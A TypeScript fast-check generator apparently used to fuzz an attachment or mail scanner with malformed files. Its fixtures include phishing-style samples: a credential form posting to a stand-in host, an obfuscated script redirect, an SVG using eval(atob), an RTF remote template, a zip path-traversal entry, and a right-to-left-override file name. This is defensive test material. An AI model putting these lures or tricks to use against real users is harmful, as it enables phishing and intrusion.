/** Files to open: whole ones bent out of shape, and beginnings that promise a format which does not follow. */
import fc from 'fast-check';
import { gzipSync, strToU8, zipSync } from 'fflate';
import { anyOctets, textOf } from './inputs.ts';

export interface AnyFile {
  name: string;
  type: string;
  octets: Buffer;
}

const PAGE = strToU8(
  '<script>document.write(unescape("%3Ca href=%22https://files.attacker.test/x%22%3E"));location="ht"+"tps://x.example/"</script><form action="https://x.example/post"><input type=password></form>',
);
const RELATIONSHIPS = strToU8(
  '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://files.attacker.test/x" TargetMode="External"/></Relationships>',
);
const DOCUMENT = strToU8('<w:document><w:p><w:instrText>HYPERLINK "https://files.attacker.test/y"</w:instrText><w:t>View</w:t></w:p></w:document>');
const OFFICE = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': DOCUMENT, 'word/_rels/document.xml.rels': RELATIONSHIPS });
const CALENDAR =
  'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://files.attacker.test/\r\n x\r\nX-ALT-DESC;FMTTYPE=text/html:<a href="https://x.example/">v</a>\r\nATTACH;ENCODING=BASE64:aHR0cHM6\r\nEND:VEVENT\r\n';

/** Whole files, as others make them. */
const WHOLE: readonly Buffer[] = [
  Buffer.from(PAGE),
  Buffer.from(OFFICE),
  Buffer.from(zipSync({ 'a/offer.html': PAGE, 'b.docx': OFFICE, '../c.exe': strToU8('MZ') })),
  Buffer.from(gzipSync(PAGE)),
  Buffer.from(CALENDAR),
  Buffer.from(
    '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://files.attacker.test/x"}{\\fldrslt View}}{\\*\\template https://x.example/t.dotm}{\\object\\objdata 0105000002000000}}',
  ),
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="https://files.attacker.test/x"><text>View</text></a><script>eval(atob("YWxlcnQ="))</script></svg>',
  ),
  Buffer.from('[InternetShortcut]\r\nURL=https://files.attacker.test/x\r\n'),
  Buffer.from(`From: a@x.example\r\nContent-Type: text/html\r\n\r\n<a href="https://files.attacker.test/x">View</a>`),
  Buffer.from('%PDF-1.7\n1 0 obj<</Type/Annot/A<</URI(https://files.attacker.test/x)>>>>endobj\ntrailer<<>>'),
  tar('offer.html', Buffer.from(PAGE)),
];

/** What formats begin with. */
const BEGINNINGS = [
  '504b0304',
  '504b0506',
  '1f8b08',
  'd0cf11e0a1b11ae1',
  '7b5c72746631',
  '25504446',
  '89504e470d0a1a0a',
  '474946383961',
  '78 9f3e22'.replace(' ', ''),
  '4c00000001140200',
  '377abcaf271c',
  '526172211a07',
  '4d5a',
  'e4525c7b8cd8a74d',
  '424d',
  '4d534346',
  '3c',
  '424547494e3a',
];
const NAMES = [
  'offer.html',
  'offer.docx',
  'offer.zip',
  'offer.pdf.exe',
  'offer.\u202efdp.htm',
  'a.ics',
  'a.rtf',
  'winmail.dat',
  'mail.eml',
  'mail.msg',
  'a.svg',
  'a.url',
  'a.lnk',
  'a.one',
  'a.tar',
  'a.gz',
  'a.mht',
  'a.vcf',
  '',
  '../../x',
];
const TYPES = [
  'text/html',
  'application/octet-stream',
  'application/zip',
  'text/calendar',
  'message/rfc822',
  'application/ms-tnef',
  'image/svg+xml',
  'application/pdf',
  'text/plain',
  '',
];

function tar(name: string, octets: Buffer): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write('0000644', 100);
  header.write(octets.length.toString(8).padStart(11, '0'), 124);
  header.write('0', 156);
  header.write('ustar', 257);
  return Buffer.concat([header, octets, Buffer.alloc(1_024)]);
}

const bent: fc.Arbitrary<Buffer> = fc
  .tuple(
    fc.constantFrom(...WHOLE),
    fc.array(fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), cut: fc.nat(20), put: fc.uint8Array({ maxLength: 8 }) }), { maxLength: 8 }),
  )
  .map(([whole, edits]) =>
    edits.reduce((octets, { at, cut, put }) => {
      const place = Math.floor(at * octets.length);
      return Buffer.concat([octets.subarray(0, place), put, octets.subarray(Math.min(octets.length, place + (cut > 10 ? 0 : put.length)))]);
    }, whole),
  );

export const anyFile = (size: number): fc.Arbitrary<AnyFile> =>
  fc.record({
    name: fc.constantFrom(...NAMES),
    type: fc.constantFrom(...TYPES),
    octets: fc.oneof(
      { arbitrary: bent, weight: 4 },
      { arbitrary: fc.tuple(fc.constantFrom(...BEGINNINGS), anyOctets(size)).map(([hex, rest]) => Buffer.concat([Buffer.from(hex, 'hex'), rest])), weight: 2 },
      { arbitrary: textOf('html', size).map((text) => Buffer.from(text)), weight: 1 },
      { arbitrary: textOf('script', size).map((text) => Buffer.from(`<script>${text}</script>`)), weight: 2 },
    ),
  });
